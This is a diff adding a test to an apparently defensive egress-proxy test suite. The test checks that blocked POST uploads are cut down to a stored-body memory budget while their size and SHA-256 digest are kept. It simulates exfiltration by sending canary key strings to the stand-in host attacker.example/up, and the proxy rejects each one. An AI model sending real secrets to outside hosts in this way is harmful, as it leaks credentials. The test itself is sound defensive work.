@@ -382,6 +382,31 @@ describe('egress proxy', () => {
     }
   });
 
+  it('keeps at most maxStoredBodyBytes of body text over the attempt; later bodies keep size and digest', async () => {
+    // A thousand large bodies must not grow the evidence held in memory past the attempt's budget.
+    const h = await harness({ maxBodyBytes: 1_000, maxStoredBodyBytes: 2_500 });
+    try {
+      const bodies = [0, 1, 2, 3, 4].map((n) => `${String(n).repeat(1_200)}sk-canary-${n}`);
+      for (const body of bodies) {
+        const reply = await viaProxy(h.port, 'http://attacker.example/up', { method: 'POST', body });
+        assert.equal(reply.status, 403);
+      }
+      const { requests, coverage } = h.proxy.evidence();
+      assert.deepEqual(
+        requests.map((entry) => entry.bodyText?.length ?? 0),
+        [1_000, 1_000, 500, 0, 0],
+      );
+      assert.deepEqual(
+        requests.map((entry) => [entry.bodyBytes, entry.bodySha256, entry.bodyTruncated]),
+        bodies.map((body) => [Buffer.byteLength(body), sha(body), true]),
+      );
+      assert.deepEqual(coverage.reasons, ['body_truncated']);
+      assert.equal(coverage.complete, false);
+    } finally {
+      await h.close();
+    }
+  });
+
   it('ends a header flood with 431 and records that a request could not be read', async () => {
     const h = await harness();
     try {
